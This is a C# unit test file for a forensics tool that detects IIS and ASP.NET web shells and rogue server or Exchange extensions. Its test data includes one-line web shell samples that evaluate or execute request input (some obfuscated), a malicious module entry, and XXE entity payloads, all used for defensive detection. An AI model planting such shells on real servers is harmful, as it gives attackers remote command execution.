using System.Text;
using Forensics.Parsers.Artifacts;
using Forensics.Parsers.Artifacts.Linux;
using Forensics.Parsers.Artifacts.Windows;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Windows;

/// <summary>Pages of IIS and what IIS and Exchange are told to load.</summary>
public sealed class WindowsWebTests
{
    [Theory]
    [InlineData("<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<%@ Page Language=\"Jscript\"%><%var p=Request.Item[\"z\"];eval(p,\"uns\"+\"afe\");%>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<%execute request(\"a\")%>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<% ExecuteGlobal(Request(\"x\")) %>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<%@ Page Language=\"C#\" %><% var k = Request.BinaryRead(9); System.Reflection.Assembly.Load(new X().D(k)).CreateInstance(\"U\"); %>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<%@ Page Language=\"Jscript\"%><%\\u0065\\u0076\\u0061\\u006c(Request.Item['x'])%>", WebScriptAct.EvaluatesRequest)]
    [InlineData("<% p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + Request.Form[\"c\"]; %>", WebScriptAct.RunsRequest)]
    [InlineData("<% Set s = Server.CreateObject(\"WScript.Shell\") : s.Exec(Request.QueryString(\"c\")) %>", WebScriptAct.RunsRequest)]
    [InlineData("<% System.Diagnostics.Process.Start(Request[\"a\"]); %>", WebScriptAct.RunsRequest)]
    [InlineData("<% System.IO.File.WriteAllText(Request.Form[\"path\"], Request.Form[\"data\"]); %>", WebScriptAct.WritesRequest)]
    [InlineData("<% Request.Files[0].SaveAs(Server.MapPath(Request[\"n\"])); %>", WebScriptAct.WritesRequest)]
    public void A_request_reaches(string code, WebScriptAct act) => Assert.Contains(act, Script(code).Signs.Select(sign => sign.Act));

    [Theory]
    [InlineData("<%@ Page Language=\"C#\" %><% if (Request.QueryString[\"x\"] != null) { Response.Redirect(\"a.aspx\"); } %><script>var a = eval('(' + json + ')'); var r = new XMLHttpRequest();</script>")]
    [InlineData("<%@ WebHandler Language=\"C#\" %> public void ProcessRequest(HttpContext c) { foreach (string n in c.Request.Files) { var f = c.Request.Files[n]; f.SaveAs(Path.Combine(root, Guid.NewGuid() + \".bin\")); } }")]
    [InlineData("<% var a = System.Reflection.Assembly.Load(\"DotNetNuke\"); var q = Request.QueryString[\"tabid\"]; %>")]
    [InlineData("<%@ WebHandler Language=\"C#\" %> var p = new ProcessStartInfo(tool); p.Arguments = \"-i \" + thumbnail; Process.Start(p); var id = int.Parse(c.Request.QueryString[\"id\"]);")]
    public void A_request_does_not_reach_anything(string code) => Assert.Empty(Script(code).Signs);

    [Fact]
    public void Modules_handlers_and_agents_are_read_with_their_files()
    {
        const string text = """
            <?xml version="1.0" encoding="UTF-8"?>
            <configuration><system.webServer>
              <globalModules><add name="HttpLoggingModule" image="%windir%\System32\inetsrv\loghttp.dll" /><add name="Evil" image="C:\Windows\Temp\e.dll" /></globalModules>
              <isapiFilters><filter name="ASP.Net_4.0" path="%windir%\Microsoft.NET\Framework64\v4.0.30319\aspnet_filter.dll" enabled="false" /></isapiFilters>
            </system.webServer>
            <location path="Default Web Site/shop"><system.webServer><handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\PHP\php-cgi.exe|-c x" /></handlers><modules><add name="Plain" /><add name="M" type="Shop.M, Shop.Web" /></modules></system.webServer></location>
            </configuration>
            """;
        WebServerExtension[] found = Extensions("/inetpub/wwwroot/shop/web.config", text);
        Assert.Equal([WebExtensionKind.NativeModule, WebExtensionKind.NativeModule, WebExtensionKind.IsapiFilter, WebExtensionKind.Handler, WebExtensionKind.ManagedModule], found.Select(entry => entry.Extension));
        Assert.Equal(["/Windows/System32/inetsrv/loghttp.dll", "/Windows/Temp/e.dll", "/Windows/Microsoft.NET/Framework64/v4.0.30319/aspnet_filter.dll", "/PHP/php-cgi.exe", "/inetpub/wwwroot/shop/bin/Shop.Web.dll"], found.Select(entry => Assert.Single(entry.NamedFiles)));
        Assert.Equal([null, null, null, "Default Web Site/shop", "Default Web Site/shop"], found.Select(entry => entry.Site));
        Assert.Equal("*.php", found[3].RequestPath);
        Assert.NotNull(found[2].DormantBecause);
        Assert.Equal(3, found[1].Location.Line);

        WebServerExtension agent = Assert.Single(Extensions("/Program Files/Microsoft/Exchange Server/V15/TransportRoles/Shared/agents.config",
            "<configuration><mexRuntime><monitoring/><agentList><agent name=\"A\" baseType=\"b\" classFactory=\"X.F\" assemblyPath=\"C:\\ProgramData\\a.dll\" enabled=\"true\" /></agentList></mexRuntime></configuration>"));
        Assert.Equal((WebExtensionKind.TransportAgent, "/ProgramData/a.dll", "X.F"), (agent.Extension, agent.NamedFiles[0], agent.Type));
    }

    [Theory]
    [InlineData("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c:/x'>]><configuration>&b;</configuration>")]
    [InlineData("<configuration><system.webServer>")]
    public void Damage_is_said(string text)
    {
        var list = new ArtifactList();
        new WebServerExtensionParser().Parse(WindowsInput.Of("/inetpub/wwwroot/web.config", Encoding.UTF8.GetBytes(text)), list);
        Assert.Equal("windows.web.configuration", Assert.Single(list.Diagnostics).Code);
    }

    [Fact]
    public void Sites_name_their_directories_on_the_volume_of_the_system()
    {
        const string text = """
            <?xml version="1.0" encoding="UTF-8"?>
            <configuration><system.applicationHost><sites>
              <site name="Default Web Site" id="1"><application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\inetpub\wwwroot" /></application></site>
              <site name="Portal" id="2">
                <application path="/"><virtualDirectory path="/" physicalPath="C:\Portal\app\" /><virtualDirectory path="/files" physicalPath="c:\Data\Files" /></application>
                <application path="/x"><virtualDirectory path="/" physicalPath="c:\portal\APP" /><virtualDirectory path="/d" physicalPath="D:\Sites" /><virtualDirectory path="/s" physicalPath="\\files\web" /></application>
                <application path="/y"><virtualDirectory path="/" physicalPath="C:\" /><virtualDirectory path="/u" physicalPath="C:\Portal\.." /><virtualDirectory path="/r" physicalPath="relative" /><virtualDirectory path="/n" /></application>
              </site>
            </sites></system.applicationHost></configuration>
            """;
        ArtifactList found = Sites(text);
        Assert.Equal(["/inetpub/wwwroot", "/Portal/app", "/Data/Files"], found.Artifacts.Cast<WebRoot>().Select(root => root.Directory));
        Assert.Equal(5, found.Artifacts[1].Location.Line);
        Assert.Empty(found.Diagnostics);
    }

    [Fact]
    public void Damaged_and_endless_configurations_give_what_was_read_and_say_so()
    {
        ArtifactList cut = Sites("<configuration><sites><virtualDirectory physicalPath=\"C:\\a\\b\" /><site");
        Assert.Single(cut.Artifacts);
        Assert.Equal("windows.web.sites", Assert.Single(cut.Diagnostics).Code);

        ArtifactList many = Sites("<sites>" + string.Concat(Enumerable.Range(0, 2000).Select(i => $"<virtualDirectory physicalPath=\"C:\\s\\{i}\" />")) + "</sites>");
        Assert.Equal(1024, many.Artifacts.Count);
        Assert.Equal("windows.web.sites", Assert.Single(many.Diagnostics).Code);

        Assert.Equal("windows.web.sites", Assert.Single(Sites(string.Concat(Enumerable.Repeat("<a>", 100))).Diagnostics).Code);
        Assert.Equal("windows.web.sites", Assert.Single(Sites("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///c:/x'>]><a>&b;</a>").Diagnostics).Code);
    }

    private static ArtifactList Sites(string text)
    {
        var list = new ArtifactList();
        new IisSiteParser().Parse(WindowsInput.Of("/Windows/System32/inetsrv/config/applicationHost.config", Encoding.UTF8.GetBytes(text)), list);
        return list;
    }

    private static WebServerExtension[] Extensions(string path, string text)
    {
        var list = new ArtifactList();
        new WebServerExtensionParser().Parse(WindowsInput.Of(path, Encoding.UTF8.GetBytes(text)), list);
        Assert.Empty(list.Diagnostics);
        return [.. list.Artifacts.Cast<WebServerExtension>()];
    }

    private static WebScript Script(string code)
    {
        var list = new ArtifactList();
        new WindowsWebScriptParser().Parse(WindowsInput.Of("/inetpub/wwwroot/a.aspx", Encoding.UTF8.GetBytes(code)), list);
        return Assert.IsType<WebScript>(Assert.Single(list.Artifacts));
    }
}
